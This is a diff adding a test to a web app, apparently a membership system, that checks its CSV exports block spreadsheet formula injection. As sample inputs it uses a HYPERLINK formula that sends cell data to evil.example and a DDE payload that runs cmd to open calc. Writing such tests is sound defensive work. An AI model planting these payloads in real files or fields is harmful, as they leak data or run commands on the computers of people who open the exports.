@@ -222,3 +222,44 @@ test('uploads: path separators in the name keep only the base name; CR/LF, NUL a
   assert.ok(twice.status === 400 || ['a.txt', 'b.txt'].includes(twice.data.filename), twice.text);
   assert.equal((await fetch(`${server.url}/healthz`)).status, 200);
 });
+
+// parseCsv: the ';'-separated, quoted CSV of the exports, as a spreadsheet reads it.
+function parseCsv(text) {
+  const rows = [];
+  let row = [];
+  let cell = '';
+  let quoted = false;
+  const body = text.replace(/^\uFEFF/, '');
+  for (let i = 0; i < body.length; i += 1) {
+    const ch = body[i];
+    if (quoted) {
+      if (ch === '"' && body[i + 1] === '"') { cell += '"'; i += 1; } else if (ch === '"') quoted = false; else cell += ch;
+    } else if (ch === '"' && cell === '') quoted = true;
+    else if (ch === ';') { row.push(cell); cell = ''; } else if (ch === '\r' && body[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 1; } else cell += ch;
+  }
+  return rows;
+}
+
+test('CSV downloads: a value a user typed never starts a formula in the spreadsheet (= + - @)', async () => {
+  // A member names a file like a formula; the secretariat downloads the audit log, which quotes it.
+  // (No '/' or '\\' in it: those would cut it down to its base name.)
+  const formula = '=HYPERLINK("https:"&"evil.example?d="&A1;"Klik hier").txt';
+  const res = await upload(c.member, formula, Buffer.from('Gewone tekst.\n'), 'text/plain');
+  assert.equal(res.status, 201, res.text);
+  // The secretariat types a member whose name and contact start like formulas.
+  const member = await c.secretariat.post('/api/v1/members', { name: '@SUM(1+1)*cmd|" /C calc"!A0', lidnummer: 'SWN-7777',
+    kvk: '12345678', town: '-2+3', contact_person: '+31 20 123 4567', member_from: '2020-01-01' });
+  assert.equal(member.status, 201, member.text);
+  const starts = /^[=+\-@\t\r]/;
+  const log = await c.secretariat.get('/api/v1/audit-log.csv?action=document.upload');
+  assert.equal(log.status, 200);
+  const members = await c.secretariat.get('/api/v1/members.csv');
+  assert.equal(members.status, 200);
+  const offenders = [...parseCsv(log.text), ...parseCsv(members.text)].flat().filter((cell) => starts.test(cell));
+  assert.deepEqual(offenders, []);
+  // The value itself is all there, behind the apostrophe that tells the spreadsheet it is text.
+  assert.ok(parseCsv(log.text).flat().some((cell) => cell.startsWith(`'${formula}`)), log.text.slice(0, 400));
+  assert.ok(parseCsv(members.text).some((row) => row[0] === '\'@SUM(1+1)*cmd|" /C calc"!A0'), members.text.slice(0, 400));
+  // The JSON keeps the value as typed.
+  assert.equal(res.data.filename, formula);
+});
